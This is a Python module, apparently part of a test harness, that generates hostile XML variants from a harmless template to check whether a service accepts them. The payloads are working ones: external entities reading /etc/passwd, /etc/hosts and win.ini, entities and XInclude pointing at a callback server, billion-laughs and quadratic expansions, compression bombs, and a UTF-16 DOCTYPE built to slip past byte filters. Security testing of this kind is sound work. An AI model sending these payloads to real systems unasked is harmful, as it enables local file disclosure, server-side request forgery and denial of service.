"""Make hostile XML documents from a harmless one that the robot accepts.

Each attack names the requirement that it is for and what a robot must not do with it.
"""

import codecs
import gzip
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from functools import partial
from itertools import islice
from typing import Final

# Slots in a document: VALUE_SLOT for text that the robot reads as a value, IGNORED_SLOT for text that it may ignore.
VALUE_SLOT: Final = "roaas-value-here"
IGNORED_SLOT: Final = "roaas-aside-here"
# A text that occurs in a response only if the robot expanded an entity.
MARK: Final = "roaas-expanded-4711"
# Beginnings of files that nearly every robot has (Unix, Windows).
LEAKS: Final = rb"root:[^:\n]{0,40}:0:0:|; for 16-bit app support|127\.0\.0\.1\s+localhost"
_FILES: Final = ("file:///etc/passwd", "file:///etc/hosts", "file:///c:/windows/win.ini")
_DEPTH: Final = 100_000
_ATTRIBUTES: Final = 20_000
_LONG: Final = 1_000_000
# Half a mebibyte over the contract's limit of 10 MiB.
_OVER: Final = 10 * 1024 * 1024 + 512 * 1024


@dataclass(frozen=True)
class Attack:
    """One hostile document.

    Attributes:
        name: the name of the requirement, in class xml-security.
        what: in a few words.
        body: octets.
        must_refuse: whether taking it is a breach. Where not, only what becomes of it counts.
        canary: what the callback server's URL in it stands for, or empty.
        headers: further HTTP fields.
    """

    name: str
    what: str
    body: bytes = field(repr=False)
    must_refuse: bool = True
    canary: str = ""
    headers: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Template:
    """A harmless document to put attacks into.

    Attributes:
        document: with VALUE_SLOT where a value is, and perhaps IGNORED_SLOT where a robot may pass over anything.
        root: qualified name of its document element, as written.
        value: what stands at VALUE_SLOT in the harmless document.
    """

    document: str
    root: str
    value: str

    def fill(self, value: str | None = None, ignored: str = "", prolog: str = "") -> str:
        """Return the document with texts in its slots, after a prolog."""
        text = self.value if value is None else value
        # If the document has no ignorable place, put that text into the value too.
        if IGNORED_SLOT not in self.document:
            text += ignored
        return prolog + self.document.replace(VALUE_SLOT, text).replace(IGNORED_SLOT, ignored)

    def octets(self, value: str | None = None, ignored: str = "", prolog: str = "") -> bytes:
        """Return the document in UTF-8; as fill()."""
        return self.fill(value, ignored, prolog).encode()


def attacks(template: Template, url: Callable[[str], str], each: int, place: str = "") -> Iterator[Attack]:
    """Yield the attacks on one document.

    Args:
        template: the document.
        url: gives the callback server's URL for a canary.
        each: how many for one requirement at most.
        place: tells the canaries of this document from those of another.
    """
    for make in _KINDS:
        # Make an attack only when it is sent: some take 10 MiB.
        for attack in islice(make(template, lambda canary: url(f"{place}{canary}")), each):
            yield replace(attack, canary=f"{place}{attack.canary}") if attack.canary else attack


def _doctypes(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    root = template.root
    bare = f"<!DOCTYPE {root}>"
    yield Attack("doctype", "a bare DOCTYPE", template.octets(prolog=bare))
    yield Attack(
        "doctype",
        "a DOCTYPE with an internal subset",
        template.octets(prolog=f"<!DOCTYPE {root} [<!ELEMENT {root} ANY>]>"),
    )
    yield Attack("doctype", "a DOCTYPE after a comment", template.octets(prolog=f"<!-- <a> -->\n\n{bare}"))
    yield Attack(
        "doctype",
        "a DOCTYPE after the XML declaration",
        template.octets(prolog=f'<?xml version="1.0" encoding="UTF-8"?>\n{bare}'),
    )
    # In UTF-16, so that a filter for the bytes "<!DOCTYPE" does not find it.
    wide = template.fill(prolog=f'<?xml version="1.0" encoding="UTF-16"?>{bare}')
    yield Attack("doctype", "a DOCTYPE in UTF-16", codecs.BOM_UTF16_LE + wide.encode("utf-16-le"))


def _internal(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    half = max(1, len(template.value) // 2)
    first, second = template.value[:half], template.value[half:]
    subset = f'<!DOCTYPE {template.root} [<!ENTITY a "{first}"><!ENTITY b "&a;{second}">]>'
    yield Attack("internal-entity", "a value made of entities", template.octets("&b;", prolog=subset))
    subset = f'<!DOCTYPE {template.root} [<!ENTITY a "{MARK[:9]}"><!ENTITY b "&a;{MARK[9:]}">]>'
    yield Attack("internal-entity", "a text made of entities", template.octets("&b;", prolog=subset))
    yield Attack("internal-entity", "an entity in an ignored element", template.octets(ignored="&b;", prolog=subset))
    attribute = f'<!DOCTYPE {template.root} [<!ENTITY a "x"><!ATTLIST {template.root} id CDATA "{MARK}">]>'
    yield Attack("internal-entity", "an attribute that the DTD adds", template.octets(prolog=attribute))


def _external(template: Template, url: Callable[[str], str]) -> Iterator[Attack]:
    root = template.root
    for file in _FILES:
        subset = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>'
        yield Attack("external-entity", f"{file} as a value", template.octets("&x;", prolog=subset))
    subset = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{_FILES[0]}">]>'
    yield Attack("external-entity", f"{_FILES[0]} in an ignored element", template.octets(ignored="&x;", prolog=subset))
    subset = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{url("entity")}">]>'
    yield Attack("external-entity", "an entity from elsewhere", template.octets("&x;", prolog=subset), canary="entity")
    subset = f'<!DOCTYPE {root} [<!ENTITY x PUBLIC "-//A//B//EN" "{url("public")}">]>'
    yield Attack("external-entity", "a public entity", template.octets("&x;", prolog=subset), canary="public")


def _parameters(template: Template, url: Callable[[str], str]) -> Iterator[Attack]:
    root = template.root
    for what, prolog, canary in (
        ("an external DTD", f'<!DOCTYPE {root} SYSTEM "{url("dtd")}">', "dtd"),
        ("an external DTD that is a file", f'<!DOCTYPE {root} SYSTEM "{_FILES[0]}">', ""),
        (
            "a parameter entity from elsewhere",
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{url("parameter")}"> %p;]>',
            "parameter",
        ),
        ("a parameter entity that is a file", f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{_FILES[0]}"> %p;]>', ""),
    ):
        yield Attack("parameter-entity", what, template.octets(prolog=prolog), canary=canary)


def _expansions(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    subset = f'<!DOCTYPE {template.root} [<!ENTITY l0 "lol">{levels}]>'
    # In the ignorable place, a robot may drop the expanded text; in the value, it has to keep it.
    yield Attack(
        "expansion", "the billion laughs attack in an ignored element", template.octets(ignored="&l9;", prolog=subset)
    )
    yield Attack("expansion", "the billion laughs attack", template.octets("&l9;", prolog=subset))
    levels = "".join(f'<!ENTITY % q{level} "{f"&#37;q{level - 1};" * 10}">' for level in range(1, 10))
    subset = f'<!DOCTYPE {template.root} [<!ENTITY % q0 "<!-- -->">{levels} %q9;]>'
    yield Attack("expansion", "the billion laughs attack by parameter entities", template.octets(prolog=subset))
    subset = f'<!DOCTYPE {template.root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    yield Attack("expansion", "entities that hold each other", template.octets("&a;", prolog=subset))


def _quadratic(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    subset = f'<!DOCTYPE {template.root} [<!ENTITY a "{"a" * 50_000}">]>'
    yield Attack(
        "quadratic",
        "one long entity 5,000 times in an ignored element",
        template.octets(ignored="&a;" * 5000, prolog=subset),
    )
    yield Attack("quadratic", "one long entity 5,000 times", template.octets("&a;" * 5000, prolog=subset))


def _inclusions(template: Template, url: Callable[[str], str]) -> Iterator[Attack]:
    for where in ("value", "aside"):
        for what, target, canary in (
            ("a file", _FILES[0], ""),
            ("elsewhere", url(f"xinclude-{where}"), f"xinclude-{where}"),
        ):
            include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
            body = template.octets(include) if where == "value" else template.octets(ignored=include)
            yield Attack("xinclude", f"XInclude of {what} ({where})", body, must_refuse=False, canary=canary)


def _schemas(template: Template, url: Callable[[str], str]) -> Iterator[Attack]:
    hint = (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="urn:example:a {url("schema")}" xsi:noNamespaceSchemaLocation="{url("schema")}"'
    )
    yield Attack(
        "no-callback", "xsi:schemaLocation", _with_attributes(template, hint), must_refuse=False, canary="schema"
    )


def _with_attributes(template: Template, attributes: str) -> bytes:
    """Return the document with attributes on its document element."""
    start = f"<{template.root}"
    return template.octets().replace(start.encode(), f"{start}{attributes}".encode(), 1)


def _depths(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    yield Attack("depth", "100,000 elements in each other", template.octets(ignored="<d>" * _DEPTH + "</d>" * _DEPTH))
    yield Attack("depth", "100,000 start tags", template.octets("<d>" * _DEPTH))


def _attributes(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    many = ' xmlns:q="urn:example:q"' + "".join(f' q:a{number}=""' for number in range(_ATTRIBUTES))
    yield Attack("attributes", "20,000 attributes", _with_attributes(template, many))


def _names(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    yield Attack("long-name", "a name of a million characters", template.octets(ignored=f"<{'n' * _LONG}/>"))


def _sizes(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    yield Attack("size", "a comment of 10.5 MiB", _wide(template))
    yield Attack("size", "white space of 10.5 MiB", template.octets(" " * _OVER + template.value))


def _wide(template: Template) -> bytes:
    """Return the document with a comment of 10.5 MiB."""
    return template.octets(ignored=f"<!--{MARK}-->").replace(MARK.encode(), b" " * _OVER, 1)


def _compressed_bombs(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
    wide = _wide(template)
    for coding, pack in (("gzip", partial(gzip.compress, mtime=0)), ("deflate", zlib.compress)):
        packed = pack(wide, 1)
        yield Attack(
            "compressed",
            f"10.5 MiB in {len(packed) // 1024} KiB of {coding}",
            packed,
            headers=(("Content-Encoding", coding),),
        )


def _instructions(template: Template, url: Callable[[str], str]) -> Iterator[Attack]:
    sheet = f'<?xml-stylesheet type="text/xsl" href="{url("stylesheet")}"?>'
    yield Attack("processing-instruction", "a style sheet", template.octets(prolog=sheet), canary="stylesheet")
    yield Attack(
        "processing-instruction",
        "a processing instruction in an ignored element",
        template.octets(ignored="<?run this?>"),
    )
    yield Attack("processing-instruction", "an instruction at the end", template.octets() + b"<?run this?>")


# Kinds of attacks, one for each requirement. Those with an address come first: a robot may call it later.
_KINDS: Final = (
    _doctypes,
    _internal,
    _external,
    _parameters,
    _expansions,
    _quadratic,
    _inclusions,
    _schemas,
    _instructions,
    _depths,
    _attributes,
    _names,
    _sizes,
    _compressed_bombs,
)
